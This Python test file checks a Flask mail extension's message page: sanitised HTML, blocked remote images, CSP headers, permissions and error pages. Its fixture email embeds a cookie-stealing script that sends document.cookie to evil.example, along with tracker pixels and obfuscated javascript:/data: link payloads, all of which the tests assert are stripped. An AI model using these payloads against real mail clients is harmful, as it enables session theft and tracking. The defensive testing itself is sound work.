"""The message page (``mailconnect.message``) against Dovecot: real-world messages rendered
safely, remote images blocked unless asked for, permissions, 404s and the key-loss 503."""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import pytest
from flask import Flask

from flask_mailconnect import MailConnect
from flask_mailconnect.message_view import (
    BLOCKED_IMAGE,
    HTML_LIMIT,
    nesting_depth,
    render_message,
    sanitize_html,
)
from tests.conftest import login
from tests.mailboxes import imap_client, make_account, reset_inbox
from tests.peers.dovecot import DovecotPeer

pytestmark = pytest.mark.peers

CORPUS = Path(__file__).parent / "corpus"
EXPECTED = json.loads((CORPUS / "expected.json").read_text(encoding="utf-8"))

NEWSLETTER = (
    b"From: Shop <news@shop.example>\r\nTo: Alice <alice@example.com>, bob@example.com\r\n"
    b"Subject: =?utf-8?q?Sp=C3=A4te_Angebote?=\r\nDate: Mon, 6 Jan 2025 10:00:00 +0000\r\n"
    b"MIME-Version: 1.0\r\n"
    b'Content-Type: multipart/alternative; boundary="alt"\r\n\r\n'
    b"--alt\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nPlain version\r\n"
    b"--alt\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"
    b"<html><head><style>body{background:url(https://tracker.example/css.png)}</style>"
    b"<script>document.location='https://evil.example/'+document.cookie</script></head>"
    b'<body onload="alert(1)"><h1 style="color:#c00;position:fixed">Deals</h1>'
    b'<p>Hello <b>Alice</b>, <a href="javascript:alert(2)">click</a> or '
    b'<a href="https://shop.example/deals">see the deals</a>.</p>'
    b'<img src="https://tracker.example/open.gif?u=alice" alt="pixel" width="1">'
    b'<img src="http://images.shop.example/logo.png" alt="Shop logo">'
    b'<img src="cid:inline-1" alt="inline">'
    b'<div style="background-image:url(https://tracker.example/bg.png)">bg</div>'
    b'<iframe src="https://evil.example/frame"></iframe><form action="https://evil.example">'
    b'<input name="password"></form><svg><image href="https://tracker.example/svg.png"/></svg>'
    b"</body></html>\r\n--alt--\r\n"
)


FILES = ["02-8bit-latin1-declared.eml", "05-8bit-koi8r.eml", "15-multipart-nested.eml",
         "16-multipart-attachment-first.eml", "20-iso-2022-jp.eml"]  # fmt: skip


@pytest.fixture
def mailbox(imap_server: DovecotPeer) -> DovecotPeer:
    """INBOX: the five corpus messages (UIDs 1..5), then the newsletter (UID 6)."""
    reset_inbox(imap_server)
    client = imap_client(imap_server)
    try:
        for name in FILES:
            client.append("INBOX", (CORPUS / name).read_bytes())
        client.append("INBOX", NEWSLETTER)
    finally:
        client.logout()
    return imap_server


@pytest.fixture
def account_id(peer_app: Flask, db: Any, mailbox: DovecotPeer) -> int:
    with peer_app.app_context():
        return make_account(db, mailbox).id


def page(client: Any, account_id: int, uid: int, query: str = "") -> Any:
    return client.get(f"/email/accounts/{account_id}/messages/INBOX/{uid}{query}")


def body_of(html: str) -> str:
    found = re.search(r'<div class="mc-mail-body[^"]*" data-mc-mail-body>(.*?)</div>\s*\n', html,
                      re.S)  # fmt: skip
    assert found is not None
    return found.group(1)


@pytest.mark.parametrize("uid,name", list(enumerate(FILES, 1)), ids=[n[:2] for n in FILES])
def test_real_world_messages_render(
    peer_app: Flask, client: Any, account_id: int, uid: int, name: str
) -> None:
    login(client, 1)
    answer = page(client, account_id, uid)
    assert answer.status_code == 200
    html = answer.get_data(as_text=True)
    expected = EXPECTED[name]
    assert expected["subject"] in html  # decoded from Latin-1, KOI8-R, ISO-2022-JP...
    assert expected["sender"].replace("<", "&lt;").replace(">", "&gt;") in html
    assert "\ufffd" not in html
    if name.startswith(("02", "05", "20")):  # plain text, shown as text
        assert re.search(r'<pre class="mc-mail-body mc-mail-body--text"', html)
        assert expected["snippet"] in html
    if name.startswith("15"):  # the HTML alternative, Latin-1; the PDF listed
        assert "<p>Voilà</p>" in html
        assert 'data-mc-attachment><span class="mc-attachment-name">r.pdf</span>' in html
        assert "9 Bytes · application/pdf" in html
    if name.startswith("16"):  # base64 HTML; the text attachment first is listed, not shown
        assert "<h1>Build #7 failed</h1>" in html
        assert "log.txt" in html and "error: this is the log" not in html


def test_html_is_sanitised_and_remote_images_blocked(
    peer_app: Flask, client: Any, account_id: int, mailbox: DovecotPeer
) -> None:
    login(client, 1)
    answer = page(client, account_id, 6)
    assert answer.status_code == 200
    policy = answer.headers["Content-Security-Policy"]
    assert "img-src 'self' data:;" in policy and "https:" not in policy
    assert "object-src 'none'" in policy and "frame-src 'none'" in policy
    assert answer.headers["Referrer-Policy"] == "no-referrer"
    html = answer.get_data(as_text=True)
    assert "Späte Angebote" in html
    assert "Alice &lt;alice@example.com&gt;, bob@example.com" in html
    body = body_of(html)
    for gone in ("<script", "document.cookie", "onload", "javascript:", "<style", "<iframe",
                 "<form", "<input", "<svg", "position:fixed", "tracker.example",
                 "images.shop.example", "cid:"):  # fmt: skip
        assert gone not in body, gone
    assert '<h1 style="color:#c00">Deals</h1>' in body
    deals = re.search(r'<a [^>]*href="https://shop.example/deals"[^>]*>', body)
    assert deals is not None
    assert (
        'rel="noopener noreferrer nofollow"' in deals.group() and 'target="_blank"' in deals.group()
    )
    assert body.count(BLOCKED_IMAGE.replace("&", "&amp;")) == 3
    assert 'alt="Shop logo"' in body
    assert "Remote images in this message are blocked" in html
    link = re.search(r'href="([^"]+)" data-mc-show-images', html)
    assert link is not None and link.group(1).endswith("/INBOX/6?images=1")
    shown = client.get(link.group(1))
    assert "https: http:" in shown.headers["Content-Security-Policy"]
    shown_body = body_of(shown.get_data(as_text=True))
    assert 'src="http://images.shop.example/logo.png"' in shown_body
    assert "https://tracker.example/open.gif?u=alice" in shown_body
    assert "cid:" not in shown_body and "tracker.example/bg.png" not in shown_body
    assert "<script" not in shown_body
    # Opening a message marks nothing as read (EXAMINE and BODY.PEEK[]).
    imap = imap_client(mailbox)
    imap.select_folder("INBOX", readonly=True)
    assert all(b"\\Seen" not in flags for flags in imap.get_flags([1, 2, 3, 4, 5, 6]).values())
    imap.logout()


def test_recent_mail_links_open_the_page(
    peer_app: Flask, mailconnect: MailConnect, db: Any, client: Any, account_id: int
) -> None:
    with peer_app.app_context():
        mailconnect.sync_recent(mailconnect.get_account(account_id))
        db.session.commit()
    login(client, 1)
    html = client.get(f"/email/accounts/{account_id}").get_data(as_text=True)
    links = re.findall(r'<a href="([^"]+)" data-mc-open-message>', html)
    assert links[0] == f"/email/accounts/{account_id}/messages/INBOX/6" and len(links) == 6
    assert client.get(links[-1]).status_code == 200


def test_missing_folder_or_message_is_a_clear_404(
    peer_app: Flask, client: Any, account_id: int
) -> None:
    login(client, 1)
    for path in ("INBOX/99", "Nope/1", "INBOX/0", "INBOX/abc", "%01bad/1"):
        answer = client.get(f"/email/accounts/{account_id}/messages/{path}")
        assert answer.status_code == 404, path
    answer = client.get(f"/email/accounts/{account_id}/messages/INBOX/99")
    assert "Message not found" in answer.get_data(as_text=True)
    assert "There is no message 99 in the folder" in answer.get_data(as_text=True)


def test_only_those_who_may_read_the_mail_see_it(
    peer_app: Flask, client: Any, account_id: int
) -> None:
    login(client, 2)  # bob: not his account
    assert page(client, account_id, 1).status_code == 404
    login(client, 3)  # an admin manages alice's account but does not read her mail
    assert page(client, account_id, 1).status_code == 404
    login(client, 1)
    assert page(client, account_id, 1).status_code == 200


def test_key_loss_is_the_503_page(peer_app: Flask, client: Any, account_id: int) -> None:
    from cryptography.fernet import Fernet

    login(client, 1)
    peer_app.config["MAILCONNECT_ENCRYPTION_KEYS"] = [Fernet.generate_key().decode()]
    answer = page(client, account_id, 1)
    assert answer.status_code == 503


def test_server_down_says_so_and_is_recorded(
    peer_app: Flask, db: Any, client: Any, silent_server: Any
) -> None:
    from tests.peers import free_port

    class Down:
        user, password, ssl_port = "nobody", "secret", free_port()

    with peer_app.app_context():
        account_id = make_account(db, Down).id
    login(client, 1)
    answer = page(client, account_id, 1)
    assert answer.status_code == 200
    html = answer.get_data(as_text=True)
    assert "This message cannot be opened right now" in html
    assert 'data-code="refused"' in html
    with peer_app.app_context():
        from flask_mailconnect import MailAccount

        assert db.session.get(MailAccount, account_id).last_error_code == "refused"


def test_render_message_without_a_server() -> None:
    """Pure parsing: a message without any text part, and a broken charset parameter."""
    raw = (
        b"From: x@example.com\r\nSubject: files\r\nMIME-Version: 1.0\r\n"
        b'Content-Type: multipart/mixed; boundary="b"\r\n\r\n'
        b'--b\r\nContent-Type: image/png; name="a.png"\r\nContent-Transfer-Encoding: base64'
        b"\r\n\r\niVBORw0KGgo=\r\n--b\r\nContent-Type: text/plain; charset=zlib_codec\r\n\r\n"
        b"caf\xe9\r\n--b--\r\n"
    )
    view = render_message(raw, uid=1, folder="INBOX")
    assert view.text is not None and "café" in view.text
    assert [(a.name, a.content_type, a.size) for a in view.attachments] == [
        ("a.png", "image/png", 8)
    ]


def _html_mail(markup: str, text: str | None = None) -> bytes:
    """A message with an HTML part (and a plain one when ``text`` is given)."""
    head = b"From: x@example.com\r\nSubject: deep\r\nMIME-Version: 1.0\r\n"
    if text is None:
        return head + b"Content-Type: text/html; charset=utf-8\r\n\r\n" + markup.encode()
    return (
        head + b'Content-Type: multipart/alternative; boundary="a"\r\n\r\n'
        b"--a\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n" + text.encode() +
        b"\r\n--a\r\nContent-Type: text/html; charset=utf-8\r\n\r\n" + markup.encode() +
        b"\r\n--a--\r\n"
    )  # fmt: skip


def test_deeply_nested_html_shows_its_text_instead() -> None:
    """nh3 is quadratic in nesting (100,000 nested divs took 19 s, a million never finished):
    past MAX_DEPTH levels the page shows the plain part, or the markup's text, and says so."""
    deep = "<div>" * 1_000_000 + "Hello &amp; bye"
    view = render_message(_html_mail(deep, "The plain version"), uid=1, folder="INBOX")
    assert view.simplified and view.html is None and view.text == "The plain version"
    view = render_message(_html_mail("<b>" * 100_000 + "Hi &amp; <i>bye</i>"), uid=1,
                          folder="INBOX")  # fmt: skip
    assert view.simplified and view.html is None and view.text == "Hi & bye"
    # Deep but within the limit, and long flat markup (implied ends do not nest): still HTML.
    view = render_message(_html_mail("<div>" * 1_500 + "ok" + "<p>x" * 5_000), uid=1,
                          folder="INBOX")  # fmt: skip
    assert not view.simplified and view.html is not None and "ok" in view.html
    assert nesting_depth("<div><br><p><p><img/></div><span><span>") == 2
    # Called directly, the sanitiser guards itself too: the text, escaped.
    assert sanitize_html("<div>" * 100_000 + "a &lt;b&gt; <i>c</i>") == ("a &lt;b&gt; c", 0, 0)
    assert nesting_depth("<div " * 100_000) == 0  # unclosed tags: linear, and no depth
    # A trailing slash closes nothing in HTML: <div/> nests like <div> (nh3 agrees).
    assert nesting_depth("<div/><span/>x") == 2
    view = render_message(_html_mail("<div/>" * 100_000 + "Hi"), uid=1, folder="INBOX")
    assert view.simplified and view.html is None and view.text == "Hi"
    # The text of markup without a plain part leaves out what the sanitiser drops with its
    # content: a newsletter's stylesheet and scripts are not shown as words.
    styled = (
        "<html><head><title>Offer</title><style>p { color: red }</style></head><body>"
        + "<div>" * 5_000
        + "Hi <SCRIPT type=x>track()</script >&amp; bye<style>never closed"
    )
    view = render_message(_html_mail(styled), uid=1, folder="INBOX")
    assert view.simplified and view.text == "Hi & bye"


def test_html_past_the_limit_is_cut_and_says_so() -> None:
    markup = "<p>" + "a" * (HTML_LIMIT + 10) + "</p><p>END</p>"
    view = render_message(_html_mail(markup), uid=1, folder="INBOX")
    assert view.truncated and not view.simplified
    assert view.html is not None and "END" not in view.html and "aaaa" in view.html


def test_deep_message_on_the_page(
    peer_app: Flask, client: Any, account_id: int, mailbox: DovecotPeer
) -> None:
    imap = imap_client(mailbox)
    imap.append("INBOX", _html_mail("<div>" * 200_000 + "Deep <b>text</b>", "Plain text part"))
    imap.logout()
    login(client, 1)
    answer = page(client, account_id, 7)
    assert answer.status_code == 200
    html = answer.get_data(as_text=True)
    assert "data-mc-simplified" in html and "too complex to show" in html
    assert '<pre class="mc-mail-body mc-mail-body--text" data-mc-mail-body>Plain text part' in html
    assert "<div><div>" not in html


@pytest.mark.parametrize(
    "href",
    [
        "da&#x09;ta:text/html,<script>alert(1)</script>",
        "c\tid:part",
        "&#x20;data:text/html,x",
        "java&#x0A;script:alert(1)",
        "&#x01;javascript:alert(1)",
        "vbscript:x",
        "/logout",
        "?images=1",
        "images=1",
        "//evil.example/x",
        "http:evil.example/x",
        "https:/evil.example",
        "ftp://files.example/x",
    ],
)
def test_links_without_an_allowed_absolute_scheme_are_dropped(href: str) -> None:
    cleaned, _, _ = sanitize_html(f'<a href="{href}">link</a>')
    assert "href" not in cleaned and "link" in cleaned, cleaned


@pytest.mark.parametrize(
    "href,kept",
    [
        ("https://shop.example/a?b=1", "https://shop.example/a?b=1"),
        ("ht&#x09;tp://shop.example/", "http://shop.example/"),
        (" HTTPS://shop.example/", "HTTPS://shop.example/"),
        ("mailto:a@example.com?subject=hi", "mailto:a@example.com?subject=hi"),
        ("tel:+4912345", "tel:+4912345"),
        ("#section-2", "#section-2"),
    ],
)
def test_absolute_links_and_fragments_are_kept(href: str, kept: str) -> None:
    cleaned, _, _ = sanitize_html(f'<a href="{href}">link</a>')
    assert f'href="{kept}"' in cleaned, cleaned


def test_message_page_policy(peer_app: Flask, client: Any, account_id: int) -> None:
    login(client, 1)
    for uid in (1, 99):  # the page and its 404
        policy = page(client, account_id, uid).headers["Content-Security-Policy"]
        for directive in ("frame-ancestors 'self'", "media-src 'none'", "object-src 'none'"):
            assert directive in policy, (uid, policy)


def test_uids_past_a_signed_int_reach_the_page(
    peer_app: Flask, client: Any, account_id: int
) -> None:
    """IMAP UIDs are 32-bit unsigned: 2**31 .. 2**32-1 are real UIDs, not a 404 from routing."""
    login(client, 1)
    for uid in (2**31, 2**32 - 1):
        answer = page(client, account_id, uid)
        assert answer.status_code == 404
        assert "data-mc-message-missing" in answer.get_data(as_text=True), uid
    answer = page(client, account_id, 2**32)
    assert answer.status_code == 404
    assert "data-mc-message-missing" not in answer.get_data(as_text=True)


# -- in Chromium, inside the example app: a toast for new mail opens the message page ------------


@pytest.mark.browser
def test_new_mail_toast_opens_the_message_page_in_chromium(tmp_path: Path) -> None:
    """ELMA365's flow: new mail pops up with author and subject, clicking opens the message.
    The demo mailbox is connected through the connect page (so the newest mail loads on save),
    a newsletter with remote images arrives, Refresh finds it, the toast opens it."""
    import sqlalchemy as sa

    from example_app import create_app
    from example_app.notifications import Notification
    from example_app.sandbox import Sandbox
    from flask_mailconnect import MailAccount, SyncedMessage
    from tests.axe_checks import AXE, axe
    from tests.browser_helpers import chromium, serve, shoot
    from tests.peers import require_peer

    if not AXE.exists():
        require_peer("axe-core", f"{AXE} missing: run `npm ci` (make test does)")
    from tests.hostapp import TEST_KEY

    box = Sandbox(tmp_path / "sandbox", smtp_port=0, imap_port=0)
    box.start()
    try:
        app = create_app(
            {
                **box.flask_config(),
                "INSTANCE_PATH": str(tmp_path / "instance"),
                "SECRET_KEY": "browser-message",
                "MAILCONNECT_ENCRYPTION_KEYS": [TEST_KEY],
                "SQLALCHEMY_DATABASE_URI": f"sqlite:///{tmp_path / 'message.db'}",
            }
        )
        seeded = len(box.mailbox.folder("INBOX").messages)
        with serve(app) as url, chromium() as browser:
            page = browser.new_context(viewport={"width": 1280, "height": 800}).new_page()
            errors: list[str] = []
            requests: list[str] = []
            page.on("pageerror", lambda exc: errors.append(str(exc)))
            page.on("request", lambda r: requests.append(r.url))
            page.goto(f"{url}/login")
            page.fill("input[name=email]", "alice@demo.test")
            page.fill("input[name=password]", "alice")
            page.click("button:has-text('Sign in')")
            page.wait_for_url(f"{url}/")

            # Save on the connect page: the newest mail is there at once, no Refresh needed.
            page.goto(f"{url}/email/connect?email={box.address}")
            page.wait_for_selector("#password", state="visible")
            page.fill("#password", box.password)
            page.click("[data-mc-test]")
            page.wait_for_selector(".mc-result--ok", timeout=15_000)
            page.click("[data-mc-save]")
            page.wait_for_url("**/email/accounts/*")
            page.wait_for_selector("[data-mc-recent] li")
            assert page.locator("[data-mc-recent] li").count() == min(seeded, 50)
            assert page.locator("[data-toast]").count() == 0  # the first load is not new mail
            with app.app_context():
                session = app.extensions["mailconnect"].session
                account_id = session.scalar(sa.select(MailAccount.id))
                assert session.scalar(sa.select(sa.func.count()).select_from(SyncedMessage))

            box.mailbox.deliver(
                NEWSLETTER.replace(
                    b"Alice <alice@", b"Alice <" + box.address.split("@")[0].encode() + b"@"
                )
            )
            page.click("[data-mc-sync]")
            toast = page.locator("[data-toast]")
            toast.wait_for()
            assert "Shop" in toast.inner_text() and "Späte Angebote" in toast.inner_text()
            shoot(page, "new-mail-toast")
            assert axe(page, "account page with a toast") == []
            requests.clear()
            page.click("[data-toast-open]")
            page.wait_for_selector("[data-mc-message]")
            assert page.url.startswith(f"{url}/email/accounts/{account_id}/messages/INBOX/")
            assert page.locator("#mc-mail-subject").inner_text() == "Späte Angebote"
            assert page.locator("[data-mc-images-blocked]").count() == 1
            assert not [r for r in requests if "example" in r]  # no tracker, no remote image
            assert page.locator("[data-toast]").count() == 0  # opened: seen
            shoot(page, "message-page")
            assert axe(page, "message page") == []
            page.click("[data-mc-show-images]")
            page.wait_for_selector("[data-mc-message]")
            # Allowed now: the browser asks for them (they do not resolve here, that is fine).
            assert any("images.shop.example" in r for r in requests)
            assert errors == []
        with app.app_context():
            from example_app.models import db

            assert db.session.scalar(sa.select(sa.func.count()).select_from(Notification)) == 1
    finally:
        box.stop()
